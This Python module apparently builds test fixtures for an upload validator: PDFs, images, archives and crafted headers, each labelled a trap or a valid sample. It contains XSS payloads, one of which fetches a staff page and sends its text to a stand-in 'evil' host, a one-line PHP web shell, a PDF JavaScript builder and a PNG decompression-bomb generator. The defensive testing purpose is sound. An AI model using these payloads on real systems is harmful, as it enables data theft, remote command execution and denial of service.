"""Builders for the upload corpus: PDFs (pikepdf), images (Pillow), archives, crafted headers."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin


@dataclass(frozen=True)
class Sample:
    name: str  # the file name as uploaded
    data: bytes
    family: str  # what kind of trap (or "valid")
    safe: bool  # True: a good document that must be accepted

    @property
    def label(self) -> str:
        return f"{self.family}:{self.name}"


PdfBuild = Callable[[pikepdf.Pdf], None]
HTML_PAYLOADS = (
    b"<html><body><script>alert(document.cookie)</script></body></html>",
    b"<!DOCTYPE html><title>x</title><img src=x onerror=alert(1)>",
    b"<script>fetch('/staff/').then(r=>r.text()).then(t=>location='//evil/'+t)</script>",
    b'<iframe src="javascript:alert(1)"></iframe>',
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    b"<?php system($_GET['c']); ?>",
    b"<body onload=alert(1)>",
    b"<object data=//evil/x.swf></object>",
)


# --- Builders -----------------------------------------------------------------------------------


def pdf(
    *,
    text: str = "Mizkhedmat test document",
    pages: int = 1,
    build: PdfBuild | None = None,
    object_streams: bool = False,
    compress: bool = True,
) -> bytes:
    document = pikepdf.new()
    font = document.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(pages):
        page = document.add_blank_page(page_size=(595, 842)).obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        content = f"BT /F1 14 Tf 72 770 Td ({text} {number + 1}) Tj ET".encode()
        page.Contents = document.make_stream(content)
    if build is not None:
        build(document)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    document.save(out, object_stream_mode=mode, compress_streams=compress, deterministic_id=True)
    return out.getvalue()


def image(
    fmt: str,
    size: tuple[int, int] = (64, 48),
    mode: str = "RGB",
    *,
    seed: int = 1,
    **save: object,
) -> bytes:
    rng = random.Random(seed)
    picture = Image.new(mode, size)
    if mode in ("RGB", "RGBA", "L", "P", "CMYK", "LA", "I;16"):
        picture = _painted(picture, rng)
    out = io.BytesIO()
    picture.save(out, fmt, **save)
    return out.getvalue()


def _painted(picture: Image.Image, rng: random.Random) -> Image.Image:
    width, height = picture.size
    base = Image.new("RGB", picture.size, (rng.randrange(256), 180, 90))
    for _ in range(6):
        x, y = rng.randrange(width), rng.randrange(height)
        colour = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
        base.paste(colour, (x, y, min(width, x + 12), min(height, y + 9)))
    if picture.mode == "P":
        return base.convert("P", palette=Image.Palette.ADAPTIVE)
    return base.convert(picture.mode)


def zip_of(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))


def png_declaring(width: int, height: int, *, full: bool = False) -> bytes:
    """A 1-bit greyscale PNG that says it is width×height; `full` writes every row (a real
    decompression bomb: megabytes that inflate to gigapixels)."""
    header = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    if full:
        row = b"\x00" * (1 + (width + 7) // 8)
        packer = zlib.compressobj(9)
        body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    else:  # the first rows only: a reader must refuse it from its header
        body = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", body)
        + png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header is patched to claim width×height."""
    data = bytearray(image("JPEG", (16, 16)))
    frame = data.find(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack("!HH", height, width)
    return bytes(data)


def after_header(document: bytes, insert: bytes) -> bytes:
    line_end = document.index(b"\n") + 1
    return document[:line_end] + insert + document[line_end:]


def js(document: pikepdf.Pdf, code: str = "app.alert('x')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def first_page(document: pikepdf.Pdf) -> pikepdf.Dictionary:
    return document.pages[0].obj


def annotate(document: pikepdf.Pdf, annotation: Dictionary) -> None:
    page = first_page(document)
    page.Annots = Array([document.make_indirect(annotation)])


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 720]), A=action)


def set_open_action(document: pikepdf.Pdf, action: Dictionary) -> None:
    document.Root.OpenAction = action


def text_field(document: pikepdf.Pdf, **extra: pikepdf.Object) -> None:
    """A one-field form on the first page (`extra`: the field's value, its actions)."""
    widget = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("name"),
        Rect=Array([72, 600, 300, 620]),
    )
    for key, value in extra.items():
        widget[f"/{key}"] = value
    field = document.make_indirect(widget)
    first_page(document).Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


ONE_PIXEL_HEADER = struct.pack("!IIBBBBB", 1, 1, 8, 0, 0, 0, 0)


def png_text(key: str, value: str) -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    return info


def png_itxt(text: str) -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("Description", text, lang="en")
    return info
